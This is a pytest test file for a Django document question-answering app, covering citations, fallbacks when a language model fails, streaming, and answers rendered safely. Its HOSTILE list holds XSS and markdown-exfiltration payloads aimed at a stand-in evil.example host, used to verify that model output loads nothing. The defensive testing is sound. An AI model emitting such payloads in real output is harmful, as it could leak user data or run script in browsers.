"""Answers of a language model over HTTP: its conversation, its failures, and what it may not do."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from typing import Any

import numpy as np
import pytest
from asgiref.sync import async_to_sync
from django.db import connection
from django.test import AsyncClient, Client
from tests.web.conftest import browser as browser
from tests.web.conftest import put as put

from quire import environment, registry, wiring
from quire.chat.models import Exchange
from quire.core.errors import PermanentError, RateLimited, TransientError
from quire.core.types import Vectors
from quire.documents.models import Document
from quire.testing.chat_model import ScriptedChatModel
from quire.testing.embedder import HashingEmbedder
from quire.testing.model_server import HELD_S, Reply, serving
from quire.testing.openai_server import OpenAIServer

Put = Callable[..., Document]

SAFFRON = "The colour of saffron is red."
PEPPER = "The colour of pepper is black."
QUESTION = "What is the colour of saffron?"
SAID = ["Saffron is red ", '[1: "Saffron', ' is red"].']


def answering(model: ScriptedChatModel) -> AbstractContextManager[None]:
    return registry.using(chat_model=model)


def ask(client: Client, question: str = QUESTION, **more: Any) -> dict[str, Any]:
    response = client.post("/api/ask/", {"question": question, **more}, "application/json")
    assert response.status_code == 200, response.content
    answer: dict[str, Any] = response.json()
    return answer


def events(api_key: str, *, until: str = "", **more: Any) -> list[tuple[str, Any]]:
    """What is streamed; with `until` the client goes away at the first event of that name."""

    async def heard() -> list[tuple[str, Any]]:
        body, headers = {"question": QUESTION, "stream": True, **more}, {"Authorization": f"Bearer {api_key}"}
        response = await AsyncClient().post("/api/ask/", body, "application/json", headers=headers)
        assert response.status_code == 200, response.content
        found: list[tuple[str, Any]] = []
        stream = response.streaming_content
        async for event in stream:
            name, data = event.decode().strip().split("\n")
            found.append((name.removeprefix("event: "), json.loads(data.removeprefix("data: "))))
            if found[-1][0] == until:
                break
        await stream.aclose()
        return found

    return async_to_sync(heard)()


def names(found: list[tuple[str, Any]]) -> list[str]:
    return [name for name, _ in found]


def test_an_answer_cites_the_words_that_the_model_copied_checked_on_their_page(put: Put, client: Client) -> None:
    document = put(SAFFRON)
    with answering(ScriptedChatModel(SAID)):
        answer = ask(client)
    assert answer["answer"] == "Saffron is red [1]."
    (citation,) = answer["citations"]
    assert (citation["quote"], citation["verified"]) == ("saffron is red", True)
    assert citation["document_id"] == str(document.id)
    assert (answer["model"], answer["grounded"], answer["notice"]) == ("scripted", True, None)


def test_words_that_are_in_no_document_are_told_as_not_verified(put: Put, client: Client) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel(['It is blue [1: "Saffron is blue"].'])):
        (citation,) = ask(client)["citations"]
    assert (citation["quote"], citation["verified"], citation["boxes"]) == ("Saffron is blue", False, [])


def test_what_the_documents_do_not_hold_is_said_not_to_be_there(put: Put, client: Client) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel(["NO_", "ANSWER"])):
        answer = ask(client)
    assert (answer["grounded"], answer["citations"]) == (False, [])
    assert answer["answer"] == "I could not find this in your documents."


def test_a_later_question_is_searched_for_as_one_that_stands_alone(put: Put, client: Client) -> None:
    put(SAFFRON, name="saffron.txt")
    put(PEPPER, name="pepper.txt")
    model = ScriptedChatModel(SAID, rewritten="What is the colour of pepper?")
    with answering(model):
        first = ask(client)
        ask(client, "And what about the black one?", conversation_id=first["conversation_id"])
    assert [question for question, _ in model.rewrote] == ["And what about the black one?"]
    question, passages, history = model.asked[1]
    assert question == "And what about the black one?"
    assert passages[0].document_name == "pepper.txt"
    assert [(turn.question, turn.answer) for turn in history] == [(QUESTION, "Saffron is red [1].")]


def test_a_first_question_and_one_about_the_whole_are_not_rewritten(put: Put, client: Client) -> None:
    put(SAFFRON)
    model = ScriptedChatModel(SAID, rewritten="Nothing.")
    with answering(model):
        first = ask(client)
        ask(client, "What is this document about?", conversation_id=first["conversation_id"])
    assert model.rewrote == []


@pytest.mark.parametrize("rewritten", [TransientError("Away."), KeyError("bug"), "\0 \n", "word " * 1_000])
def test_a_question_that_could_not_be_rewritten_is_searched_for_as_it_is(
    put: Put, client: Client, rewritten: str | Exception
) -> None:
    put(SAFFRON, name="saffron.txt")
    put(PEPPER, name="pepper.txt")
    model = ScriptedChatModel(SAID, rewritten=rewritten)
    with answering(model):
        first = ask(client)
        second = ask(client, "What is the colour of pepper?", conversation_id=first["conversation_id"])
    assert model.asked[1][1][0].document_name == "pepper.txt"
    assert second["notice"] is None


@pytest.mark.parametrize(
    "failure",
    [
        TransientError("The provider is away."),
        PermanentError("GEMINI_API_KEY is refused."),
        RateLimited("The quota is used up.", retry_after_s=3600),
    ],
)
def test_a_model_that_fails_is_stood_in_for_by_the_documents_own_sentences(
    put: Put, client: Client, failure: TransientError
) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel([failure])):
        answer = ask(client)
    assert answer["answer"] == f"{SAFFRON} [1]"
    assert (answer["model"], answer["grounded"]) == ("extractive", True)
    assert answer["notice"]["code"] == "model_failed"
    assert failure.message in answer["notice"]["message"]


def test_a_bug_in_a_model_is_told_by_its_id_alone(put: Put, client: Client, caplog: pytest.LogCaptureFixture) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel([ValueError("inner workings")])):
        notice = ask(client)["notice"]
    assert "inner workings" not in notice["message"]
    error_id = notice["message"].rpartition("error ")[2].strip(").")
    assert any(error_id in record.getMessage() and record.exc_info for record in caplog.records)


def test_a_follow_up_that_a_stand_in_answers_is_the_rewritten_question(put: Put, client: Client) -> None:
    put(f"{SAFFRON} {PEPPER}")
    with answering(ScriptedChatModel([TransientError("Away.")], rewritten="What is the colour of pepper?")):
        first = ask(client)
        second = ask(client, "And the other one?", conversation_id=first["conversation_id"])
    assert second["answer"].startswith(PEPPER)


def test_a_model_that_breaks_off_leaves_what_it_said(put: Put, client: Client) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel([*SAID, " And", TransientError("It is away.")])):
        answer = ask(client)
    assert answer["answer"] == "Saffron is red [1]. And"
    assert (answer["model"], answer["notice"]["code"]) == ("scripted", "answer_cut")


def test_a_notice_is_kept_with_the_answer(put: Put, client: Client) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel([TransientError("Away.")])):
        answer = ask(client)
    kept = client.get(f"/api/conversations/{answer['conversation_id']}/").json()
    assert kept["exchanges"][0]["notice"] == answer["notice"]


def test_a_notice_is_streamed_before_the_words_of_the_stand_in(put: Put, api_key: str) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel([TransientError("Away.")])):
        found = events(api_key)
    assert names(found) == ["notice", "token", "citations", "done"]
    assert found[0][1] == found[-1][1]["notice"]


def test_a_notice_is_streamed_after_the_words_of_a_model_that_broke_off(put: Put, api_key: str) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel([*SAID, TransientError("Away.")])):
        assert names(events(api_key)) == ["token", "token", "notice", "citations", "done"]


def test_a_client_that_goes_away_stops_the_model_and_nothing_is_kept(put: Put, api_key: str) -> None:
    put(SAFFRON)
    model = ScriptedChatModel(SAID * 100)
    with answering(model):
        assert names(events(api_key, until="token")) == ["token"]
    assert model.ended == 1
    assert not Exchange.objects.exists()


class MuteEmbedder(HashingEmbedder):
    """The hashing one, whose provider takes no question."""

    def embed_query(self, text: str) -> Vectors:
        raise RateLimited("The quota is used up.", retry_after_s=60)

    def embed_documents(self, texts: Any) -> Vectors:
        return np.stack([HashingEmbedder.embed_query(self, text) for text in texts])


@pytest.fixture
def mute_embedder() -> Iterator[None]:
    with registry.using(embedder=MuteEmbedder()):
        yield


def test_a_question_whose_embedding_fails_is_searched_for_by_its_words(
    put: Put, client: Client, mute_embedder: None
) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel(SAID)):
        answer = ask(client)
    assert answer["answer"] == "Saffron is red [1]."
    assert answer["notice"]["code"] == "search_by_words"


def test_both_failures_are_told_when_the_model_fails_too(put: Put, client: Client, mute_embedder: None) -> None:
    put(SAFFRON)
    wordy = registry.using(extractive_model=ScriptedChatModel(["Red [1]."]))
    with answering(ScriptedChatModel([TransientError("Away.")])), wordy:
        notice = ask(client)["notice"]
    assert notice["code"] == "model_failed"
    assert "by its words alone. The quota is used up. The language model failed" in notice["message"]


def test_a_search_says_that_it_failed_rather_than_find_less(put: Put, client: Client, mute_embedder: None) -> None:
    put(SAFFRON)
    response = client.post("/api/search/", {"query": "saffron"}, "application/json")
    assert (response.status_code, response.json()["code"]) == (503, "rate_limited")


HOSTILE = [
    "![secret](http://evil.example/?q=secret)",
    '<img src="http://evil.example/p.png" onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](http://evil.example/)",
    "<script>alert(1)</script>",
    "**<b onclick=alert(1)>bold</b>**",
    "http://evil.example/auto",
]


@pytest.mark.parametrize("said", HOSTILE)
def test_what_a_model_says_is_text_and_loads_nothing(put: Put, client: Client, browser: Client, said: str) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel([said, ' [1: "Saffron is red"]'])):
        answer = ask(client)
    assert answer["answer"] == f"{said} [1]"
    page = browser.get(f"/conversations/{answer['conversation_id']}/newest/").content.decode()
    shown = page[page.index('class="answer"') :]
    assert "<img" not in shown
    assert "<script" not in shown
    assert "<b " not in shown
    links = [part.partition('"')[0] for part in shown.split('href="')[1:]]
    assert links
    assert all(link.startswith("/documents/") for link in links)
    assert ' src="' not in shown


def test_a_models_bold_is_bold_and_a_documents_asterisks_are_asterisks(
    put: Put, client: Client, browser: Client
) -> None:
    put(f"**{SAFFRON}**")
    with answering(ScriptedChatModel(["It is **red [1] & hot**, not 2 ** 3 ** 4."])):
        bold = ask(client)
    own = ask(client)
    pages = [browser.get(f"/conversations/{each['conversation_id']}/newest/").content.decode() for each in (bold, own)]
    assert "<strong>red\N{NO-BREAK SPACE}</strong>" in pages[0]
    assert "<strong> &amp; hot</strong>" in pages[0]
    assert "<strong>" not in pages[1]


def test_the_page_says_what_to_know_about_an_answer(put: Put, client: Client, browser: Client) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel([TransientError("It is <away>.")])):
        failed = ask(client)
    with answering(ScriptedChatModel(["Saffron is dear."])):
        unsupported = ask(client)
    pages = [
        browser.get(f"/conversations/{each['conversation_id']}/newest/").content.decode()
        for each in (failed, unsupported)
    ]
    assert "It is &lt;away&gt;." in pages[0]
    assert "cites nothing in your documents" in pages[1]
    assert "cites nothing in your documents" not in pages[0]


def test_what_no_database_keeps_and_what_steers_a_terminal_is_left_out_of_an_answer(put: Put, client: Client) -> None:
    put(SAFFRON)
    with answering(ScriptedChatModel(["Red\0 \ud83d\x1b]0;title\x07\r\n\t[1]."])):
        assert ask(client)["answer"] == "Red ?]0;title\n\t[1]."


class Watching(ScriptedChatModel):
    """Notes at each piece, and at each rewriting, whether the database connection is held."""

    def __init__(self) -> None:
        super().__init__([])
        self.held: list[bool] = []

    def stream(self, **asked: Any) -> Iterator[str]:
        for piece in SAID * 2:
            self.held.append(connection.connection is not None)
            yield piece
        self.held.append(connection.connection is not None)

    def rewrite(self, **asked: Any) -> str:
        self.held.append(connection.connection is not None)
        return QUESTION


@pytest.mark.django_db(transaction=True)
def test_no_database_connection_is_held_while_a_model_thinks(put: Put, client: Client, api_key: str) -> None:
    if connection.vendor == "sqlite":
        pytest.skip("SQLite's test database is in memory: it lives as long as its connection")
    put(SAFFRON)
    model = Watching()
    with answering(model):
        first = ask(client)
        ask(client, "And?", conversation_id=first["conversation_id"])
        events(api_key)
    assert len(model.held) == 3 * 7 + 1
    assert not any(model.held)


@pytest.fixture
def limits() -> dict[str, str]:
    """More settings of the provider's."""
    return {}


@pytest.fixture
def provider(settings: Any, limits: dict[str, str]) -> Iterator[OpenAIServer]:
    """Embeds and words answers for a Quire that is set up as an operator would; no Redis counts its calls."""
    with serving(OpenAIServer()) as server:
        env = environment.read(
            limits
            | {
                "QUIRE_EMBEDDER": "openai",
                "QUIRE_EMBEDDING_DIMENSIONS": str(HashingEmbedder().dimensions),
                "QUIRE_CHAT_MODEL": "openai",
                "OPENAI_API_KEY": server.api_key,
                "OPENAI_BASE_URL": server.base_url,
            }
        )
        backends = wiring.backends(env, data_dir=settings.DATA_DIR)
        alone = {role: backends[role] for role in ("embedder", "chat_model", "extractive_model")}
        settings.QUIRE_BACKENDS = {**settings.QUIRE_BACKENDS, **alone}
        yield server


def test_a_provider_embeds_searches_and_words_the_answer(put: Put, client: Client, provider: OpenAIServer) -> None:
    put(SAFFRON)
    answer = ask(client)
    assert answer["answer"] == f"{SAFFRON} [1]"
    assert answer["citations"][0]["verified"]
    assert (answer["model"], answer["notice"]) == ("gpt-6-luna", None)


def test_a_provider_that_is_gone_altogether_leaves_the_documents_own_words(
    put: Put, client: Client, provider: OpenAIServer
) -> None:
    put(SAFFRON)
    provider.fail_next(*[Reply(status=503)] * 2)
    answer = ask(client)
    assert (answer["answer"], answer["model"]) == (f"{SAFFRON} [1]", "extractive")
    assert answer["notice"]["code"] == "model_failed"
    assert provider.calls[-1].path.endswith("/chat/completions")


@pytest.mark.parametrize("limits", [{"QUIRE_QUESTION_TIMEOUT_S": "0.3", "QUIRE_FIRST_WORD_TIMEOUT_S": "0.4"}])
def test_a_provider_that_hangs_is_waited_for_as_long_as_a_question_may_and_no_longer(
    put: Put, client: Client, provider: OpenAIServer
) -> None:
    put(SAFFRON)
    provider.fail_next(*[Reply(delay_s=HELD_S)] * 2)
    answer = ask(client)
    assert (answer["answer"], answer["model"]) == (f"{SAFFRON} [1]", "extractive")
    told = answer["notice"]["message"]
    assert "by its words alone. The model server at 127.0.0.1 did not answer within 0.3 s." in told
    assert "The model server at 127.0.0.1 did not begin to answer within 0.4 s." in told
